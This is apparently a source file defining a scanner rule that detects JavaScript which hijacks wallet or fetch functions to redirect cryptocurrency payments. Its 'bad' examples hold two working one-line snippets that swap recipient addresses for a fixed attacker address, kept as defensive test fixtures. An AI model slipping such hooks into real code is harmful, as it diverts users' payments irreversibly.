import { callsNamed, pattern, resolve, show, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts } from '../code/checkScripts.ts';
import { addressPatterns } from '../code/walletAddresses.ts';
import { isMadeOf } from '../../program/madeOf.ts';
import { say } from '../../../texts/say.ts';

const ADDRESS = /^(?:0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|T[1-9A-HJ-NP-Za-km-z]{33})$/;
/** Functions through which wallets send, and through which pages get their data. */
const HOOKED = [
  'request',
  'send',
  'sendAsync',
  'fetch',
  'signTransaction',
  'signAndSendTransaction',
  'sendTransaction',
];

const isAddress = (script: ScriptFacts, value: number): boolean =>
  ADDRESS.test(pattern(script, resolve(script, value)));

export const paymentRedirected = defineRule({
  id: 'payment-redirected',
  title: 'Redirects cryptocurrency payments',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1565/', 'https://github.com/advisories/GHSA-8mgj-vmr8-frr6'],
  why: 'In September 2025, popular packages contained code that sat between pages and wallets and put the attacker’s address into every payment. Payments cannot be reversed.',
  remedy:
    'Do not ship it. Remove the package, install an earlier or later release, and warn users of what was built with it.',
  check: checkScripts(function* ({ script, hit }) {
    const hooks = writesOf(script, ...HOOKED).filter((write) =>
      /(?:ethereum|solana|window|globalThis|XMLHttpRequest|provider|wallet|self)\b/.test(show(script, write.object)),
    );
    for (const write of writesOf(script, 'to', 'recipient', 'destination')) {
      if (
        hooks.length > 0 &&
        isAddress(script, write.value) &&
        /params|\btx\b|transaction|args|arguments/i.test(show(script, write.object))
      )
        yield hit(write.value, { message: say('payment-recipient-replaced') });
    }
    const forms = new Set(addressPatterns(script).map(({ value }) => value));
    if (forms.size === 0) return;
    for (const call of callsNamed(script, 'replace', 'replaceAll').slice(0, 300)) {
      if (!isAddress(script, call.args[1] ?? 0)) continue;
      if (isMadeOf(script, call.args[0] ?? 0, forms))
        yield hit(call.value, { message: say('wallet-addresses-in-text-replaced') });
    }
  }),
  examples: {
    bad: [
      {
        files: {
          'index.js':
            "const old = window.fetch; window.fetch = async (...a) => { const r = await old(...a); const t = (await r.text()).replace(/\\b0x[a-fA-F0-9]{40}\\b/g, '0x52908400098527886E0F7030069857D2E4169EE7'); return new Response(t, r); };\n",
        },
      },
      {
        files: {
          'index.js':
            "const old = window.ethereum.request; window.ethereum.request = async (p) => { if (p.method === 'eth_sendTransaction') p.params[0].to = '0x52908400098527886E0F7030069857D2E4169EE7'; return old(p); };\n",
        },
      },
    ],
    good: [
      {
        files: {
          'pay.js':
            "const params = [{ to: form.to.value, value }]; await window.ethereum.request({ method: 'eth_sendTransaction', params });\nconst TOKEN = '0x52908400098527886E0F7030069857D2E4169EE7';\n",
        },
      },
      { files: { 'mask.js': "const shown = text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, '0x…');\n" } },
    ],
  },
});
